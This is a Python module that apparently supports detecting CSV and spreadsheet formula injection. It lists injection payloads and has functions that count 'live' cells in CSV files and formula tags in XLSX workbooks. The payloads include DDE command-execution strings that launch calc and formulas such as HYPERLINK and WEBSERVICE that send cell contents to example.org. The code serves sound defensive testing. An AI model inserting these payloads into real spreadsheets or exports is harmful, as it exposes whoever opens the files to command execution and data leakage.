"""Cells that a spreadsheet program would take for formulas, and how many of them a file has."""

import csv
import io
import re
from zipfile import ZipFile

PAYLOADS: tuple[str, ...] = (
    *("=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.org?x="&A1,"ok")', "=SUM(A1:A9)", "=A1"),
    *("+1+1", "+cmd|' /C calc'!A0", "+57300-cmd", "+573001234567+1", "+A1", "+573001234567"),
    *("-1+1", "-2+3+cmd|' /C calc'!A0", "-A1", "--1", "-"),
    *("@SUM(1+1)", "@A1", "@", "@user", "=@A1"),
    *("\t=1+1", "\t+1", "\t", "\t@SUM(1)", "\tx"),
    *('=IMPORTXML("http://example.org","//a")', '=WEBSERVICE("http://example.org")', "={1;2}", "=-1", "=+1"),
    *("=1\n=2", "=👍", '=""', "='x'!A1", '="a","b"', "=1;2", "=", "+", "+12345"),
)

_LIVE = re.compile(r"[=+\-@\t\r]")
_PLAIN_PHONE = re.compile(r"\+[0-9]{6,15}")


def live_in_csv(content: bytes) -> int:
    """How many cells begin so that a spreadsheet reckons with them."""
    cells = (cell for row in csv_rows(content) for cell in row)
    return sum(bool(_LIVE.match(cell)) and not _PLAIN_PHONE.fullmatch(cell) for cell in cells)


def live_in_workbook(archive: ZipFile) -> int:
    """How many cells hold a formula."""
    sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
    return sum(len(re.findall(rb"<f[ >/]", archive.read(name))) for name in sheets)


def csv_rows(content: bytes) -> list[list[str]]:
    """The rows of a CSV file as they are written."""
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))
